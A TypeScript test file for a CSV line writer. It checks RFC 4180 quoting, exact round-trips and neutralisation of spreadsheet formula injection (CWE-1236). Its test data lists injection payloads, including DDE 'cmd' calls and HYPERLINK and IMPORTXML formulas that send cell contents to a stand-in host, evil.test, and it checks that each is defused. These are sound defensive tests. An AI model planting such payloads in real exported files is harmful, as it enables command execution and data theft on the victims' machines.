import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { csvLine } from "./csv.ts";

const parse = (text: string) => Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n" }).data;
/** One line, read back: the line end makes one more, empty row. */
const readBack = (line: string) => parse(line.slice(0, -2))[0];

describe("a CSV line", () => {
  test("separates by commas, quotes what needs it and ends with CR LF (RFC 4180)", () => {
    expect(csvLine(["a", "b c", ""], "raw")).toBe("a,b c,\r\n");
    expect(csvLine(['say "hi"', "a,b", "two\nlines", "two\r\nlines"], "raw")).toBe('"say ""hi""","a,b","two\nlines","two\r\nlines"\r\n');
  });

  test("in the raw form comes back exactly as it was", () => {
    const cell = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc
        .array(fc.constantFrom('"', ",", "\r", "\n", ";", "\t", " ", "=", "'", "a", "\ufeff"), { maxLength: 6 })
        .map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
        expect(readBack(csvLine(cells, "raw"))).toEqual(cells);
      }),
      { numRuns: 1000 },
    );
  });

  test("is one line of the file, whatever its cells hold", () => {
    const file = csvLine(["id", "name"]) + csvLine(["1", 'Ann\r\n2,"Bob"']) + csvLine(["3", "Cid"]);
    expect(parse(file.trimEnd())).toEqual([
      ["id", "name"],
      ["1", 'Ann\r\n2,"Bob"'],
      ["3", "Cid"],
    ]);
  });
});

describe("a cell that a spreadsheet would run (CWE-1236)", () => {
  test.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.test",A1),"//a")',
    "+1+1",
    "+49 170 1234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-",
    "--1",
    "-1e",
    "-.5",
    "-1,5",
    "-0x10",
    "=",
    "@",
  ])("%j is shown as text: an apostrophe stands before it", (cell) => {
    expect(readBack(csvLine(["first", cell]))).toEqual(["first", `'${cell}`]);
  });

  test.each(["-4.5", "-1", "-0", "-1e5", "-1.5E-7", "4.5", "plain", "a=b", "a@b.test", "1-2", "'=1", " =1", ""])(
    "%j is left as it is",
    (cell) => {
      expect(readBack(csvLine(["first", cell]))).toEqual(["first", cell]);
    },
  );

  test("is neutralised in every column, the first and the head of a column included", () => {
    expect(readBack(csvLine(["=a", "=b", "=c"]))).toEqual(["'=a", "'=b", "'=c"]);
  });

  test("cannot start in the middle: no cell can end early and let another begin", () => {
    const start = /^[=+\-@\t\r\n＝＋－＠]/;
    const hostile = fc
      .array(fc.constantFrom('"', ",", "\r\n", "\n", "=1+1", "@SUM(1)", "-1+1", "'", ";", "\t"), { maxLength: 8 })
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 2, maxLength: 4 }), (cells) => {
        const read = readBack(csvLine(cells)) ?? [];
        expect(read).toHaveLength(cells.length);
        expect(read.filter((cell) => start.test(cell))).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  test("is left alone in the raw form, which is for machines", () => {
    expect(csvLine(["=1+1", "@x"], "raw")).toBe("=1+1,@x\r\n");
  });
});
